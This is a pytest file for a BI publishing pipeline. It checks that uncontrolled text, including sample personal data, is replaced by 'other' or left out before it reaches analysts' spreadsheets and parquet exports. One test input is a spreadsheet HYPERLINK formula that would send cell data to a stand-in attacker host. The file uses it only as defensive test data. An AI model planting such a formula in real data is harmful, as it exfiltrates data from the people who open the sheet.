"""Text reaching analysts' spreadsheets through `bi` is a known category, a hash, or `other`."""

from __future__ import annotations

import duckdb
import polars as pl

from orchestration.publishing import publish
from orchestration.publishing.bi_values import DEFAULT_VOCABULARY_FILE, load_bi_vocabularies

from .settings import SALT

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


def _source_performance(conn: duckdb.DuckDBPyConnection) -> None:
    conn.execute(
        "CREATE OR REPLACE TABLE marts.mart_source_performance AS SELECT * FROM (VALUES "
        "('web_form', 'web_forms', 'webinar', 'webinar', 10),"
        f"('web_form', 'web_forms', '{FORMULA.replace(chr(39), chr(39) * 2)}', 'x', 3),"
        "('web_form', 'web_forms', 'Jürgen Schmidt, Hauptstr. 5', 'y', 1),"
        "('purchased_list', 'adressdirekt', 'adressdirekt', 'z', 7),"
        "('purchased_list', '+49 30 1234567', NULL, NULL, 2)"
        ") AS t(source_kind, source_system, source_detail, free_note, records_delivered)"
    )


def test_text_outside_the_vocabulary_becomes_other_in_bi_and_its_parquet(warehouse, serving_dir):
    _source_performance(warehouse)
    result = publish(
        warehouse, serving_dir, run_id="r1", salt=SALT,
        bi_vocabularies=load_bi_vocabularies(DEFAULT_VOCABULARY_FILE),
    )
    with duckdb.connect(str(serving_dir / "leadwerk_bi.duckdb"), read_only=True) as conn:
        rows = conn.execute(
            "SELECT source_system, source_detail, records_delivered FROM bi.mart_source_performance ORDER BY 3 DESC"
        ).fetchall()
    assert rows == [
        ("web_forms", "webinar", 10),
        ("adressdirekt", "adressdirekt", 7),
        ("web_forms", "other", 3),
        ("other", None, 2),
        ("web_forms", "other", 1),
    ]
    parquet = pl.read_parquet(serving_dir / "parquet" / "bi" / "mart_source_performance.parquet")
    text = parquet.select(pl.all().cast(pl.String)).write_csv()
    assert "HYPERLINK" not in text and "Schmidt" not in text and "1234567" not in text
    # The full file for people with PII rights keeps what the source delivered.
    with duckdb.connect(str(serving_dir / "leadwerk.duckdb"), read_only=True) as conn:
        assert conn.execute(
            "SELECT count(*) FROM marts.mart_source_performance WHERE source_detail = ?", [FORMULA]
        ).fetchone() == (1,)
    assert "marts.mart_source_performance.free_note" in result.bi_left_out


def test_text_column_without_a_vocabulary_is_left_out_of_bi(warehouse, serving_dir):
    _source_performance(warehouse)
    publish(warehouse, serving_dir, run_id="r1", salt=SALT,
            bi_vocabularies=load_bi_vocabularies(DEFAULT_VOCABULARY_FILE))
    with duckdb.connect(str(serving_dir / "leadwerk_bi.duckdb"), read_only=True) as conn:
        columns = [r[0] for r in conn.execute("DESCRIBE bi.mart_source_performance").fetchall()]
    assert columns == ["source_kind", "source_system", "source_detail", "records_delivered"]


def test_product_vocabularies_read_their_values_from_seeds_and_contracts():
    vocabularies = load_bi_vocabularies(DEFAULT_VOCABULARY_FILE)
    assert {"salesforce", "hubspot", "adressdirekt", "web_forms"} <= vocabularies.get("source_system").values
    assert {"demo_request", "webinar"} <= vocabularies.get("source_detail").values
    assert {"lead", "mql", "customer"} <= vocabularies.get("lifecycle_stage").values
